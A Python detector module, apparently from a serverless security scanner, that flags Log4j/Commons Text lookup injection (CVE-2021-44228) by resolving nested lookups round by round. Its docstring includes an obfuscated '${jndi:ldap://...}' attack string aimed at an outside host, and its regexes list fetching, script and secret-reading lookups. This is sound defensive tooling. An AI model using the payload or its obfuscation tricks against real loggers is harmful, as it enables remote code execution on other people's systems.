r"""A lookup that a logger or a string substitutor would resolve: `${jndi:...}` and its disguises.

SG-LKP-001, CWE-917. Log4j 1 and 2, Commons Text and Configuration (`script`, `url`, `dns`).

Lookups nest: `${lower:J}`, `${env:NOTHING:-j}`, `${::-n}`, `${date:'d'}` give letters. The innermost are resolved as the library would,
round by round, and what comes out is looked at: a name that fetches or runs something. A lookup made only to spell
letters is found by itself.

    attack          ${${::-j}${lower:N}di:${::-l}dap://198.51.100.7/a}
    near miss       ${env:STAGE:-dev}  and  ${self:custom.table}  and  Dear ${name}

High: a lookup that fetches or runs, or is spelled by others. Medium: one that reads the machine (`sys`, `ctx`, `java`). Low: in prose.

https://nvd.nist.gov/vuln/detail/CVE-2021-44228  https://logging.apache.org/log4j/2.x/manual/lookups.html
"""

from __future__ import annotations

import re

from serverless_guard.detectors import Evidence
from serverless_guard.values import TYPE_CHECKING
from serverless_guard.words.padding import through_padding
from serverless_guard.words.patterns import pattern

if TYPE_CHECKING:
    from collections.abc import Callable

RULE = "SG-LKP-001"
CWE = 917
TITLE = "a lookup that a logger would resolve"
NEEDS = (("$", "{", ":"), "jndi:")

_INNERMOST = pattern(r"\$\{([^${}]{0,200})\}")
_FETCHES = pattern(r"jndi\s{0,4}:[\s:/]{0,4}(?:ldap|rmi|dns|iiop|nis|nds|corba|https?|\$|\w{1,12}:/)|\$\{\s{0,4}jndi\s{0,4}:", re.I)
_RUNS = pattern(r"\$\{\s{0,4}(?:script:\w|url:[\w-]{1,12}:|dns:(?:address\||canonicalname\|)?[\w.-]|xml:[^:}]{1,80}:|resourcebundle:|const:\w{1,40}\.\w)", re.I)
_READS = pattern(
    r"\$\{\s{0,4}(?:sys:[\w.]|ctx:\w|java:(?:version|os|vm|runtime|hw|locale)|main:|map:\w|sd:\w|bundle:\w|docker:\w|k8s:\w|web:\w|hostname\}|"
    r"env:(?:aws_|path\}|user|home\}|java_|\w{0,20}(?:secret|key|token|pass)))",
    re.I,
)
_ROUNDS = 12


@through_padding
def detect(text: str, where: str) -> Evidence | None:
    """Evidence that `text` holds a lookup that acts; linear in its length, at most 12 rounds."""
    prose = len(text) > 120 and text.count(" ") * 7 > len(text)
    if "ndi" in text.lower() and _FETCHES.search(text):
        return Evidence("low" if prose and "${" not in text else "high", "lookup that fetches")
    if "${" not in text:
        return None
    if _RUNS.search(text):
        return Evidence("high", "lookup that runs or fetches")
    spelled = 0
    resolved = text
    for _ in range(_ROUNDS):
        if "${" not in resolved:
            break
        counted = _Resolver()
        plainer = _INNERMOST.sub(counted, resolved)
        if plainer == resolved:
            break
        spelled += counted.letters
        resolved = plainer
        if "ndi" in resolved.lower() and _FETCHES.search(resolved):
            return Evidence("high", "lookup spelled by lookups")
        if _RUNS.search(resolved):
            return Evidence("high", "lookup that runs or fetches, spelled by lookups")
    if spelled > 2:
        return Evidence("high", "letters spelled by lookups")
    if text.count("\n") < 4 and _READS.search(text):
        return Evidence("low" if prose else "medium", "lookup that reads the machine")
    return None


class _Resolver:
    """Gives for each lookup what the library would, and counts those that give a letter or two."""

    __slots__ = ("letters",)

    def __init__(self) -> None:
        self.letters = 0

    def __call__(self, found: re.Match[str]) -> str:
        inner = found[1]
        name, colon, rest = inner.partition(":")
        if not colon:
            return inner
        change = _CHANGES.get(name.strip().lower())
        if change is not None:
            given = change(rest)
        elif ":-" in inner:
            given = inner.rsplit(":-", 1)[1]
        else:
            return inner
        if len(given) < 3:
            self.letters += 1
        return given


_CHANGES: dict[str, Callable[[str], str]] = {
    "lower": str.lower,
    "upper": str.upper,
    "date": lambda rest: rest.strip("'"),
    "base64": lambda rest: rest,
    "urldecoder": lambda rest: rest,
    "urlencoder": lambda rest: rest,
}
